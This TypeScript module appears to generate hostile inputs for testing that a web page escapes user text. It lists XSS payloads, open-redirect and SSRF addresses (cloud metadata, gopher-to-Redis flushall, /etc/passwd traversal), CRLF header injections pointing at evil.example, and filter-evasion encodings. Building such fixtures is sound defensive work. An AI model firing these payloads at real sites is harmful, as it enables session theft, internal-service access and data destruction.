/**
 * Texts that would run as scripts, or lead elsewhere, if a page did not treat them as plain text.
 */
const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="//evil.example"><button>x</button></form>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css"</style>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<x onclick=alert(1) tabindex=1>x</x>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '{"@type":"x"}</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  'expression(alert(1))',
  'url(javascript:alert(1))',
]
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://evil.example/?q="onmouseover="alert(1)',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https:evil.example',
  'https://kindling.test@evil.example/',
  'https://evil.example/%2f..',
  'http://127.0.0.1:22/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'http://0x7f000001/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_flushall',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%0d%0aSet-Cookie:%20a=b',
  '\r\nLocation: //evil.example',
  'a\r\nBcc: x@evil.example',
  '%E5%98%8A%E5%98%8DSet-Cookie: a=b',
]

const toEntities = (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
const toNumbers = (text: string) => [...text].map((c) => (c === '<' ? '&#60;' : c)).join('')
const toMixedCase = (text: string) => [...text].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c)).join('')

/** Changes a text to evade a filter: it closes an attribute first, is encoded, is Markdown, or has invisible characters. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `\`>${text}`,
  toEntities,
  toNumbers,
  (text) => encodeURIComponent(text),
  (text) => `[x](${text})`,
  (text) => text.replace('script', 'scr\u200Bipt'),
  (text) => text.replace(/\s/, '/'),
  toMixedCase,
  (text) => `<${text}`,
  (text) => `${text}\u202E`,
]

/** Returns this many different texts of at most 80 characters, as in the shortest field; unchanged ones come first. */
export function hostileTexts(count: number): string[] {
  const all = disguises.flatMap((disguise) => [...scripts, ...addresses].map(disguise))
  const short = [...new Set(all)].filter((text) => [...text].length <= 80)
  if (short.length < count) throw new Error(`there are only ${short.length}`)
  // a small number contains some of each kind
  const step = Math.max(1, Math.floor((scripts.length + addresses.length) / count))
  return count >= 100 ? short.slice(0, count) : short.filter((_, i) => i % step === 0).slice(0, count)
}
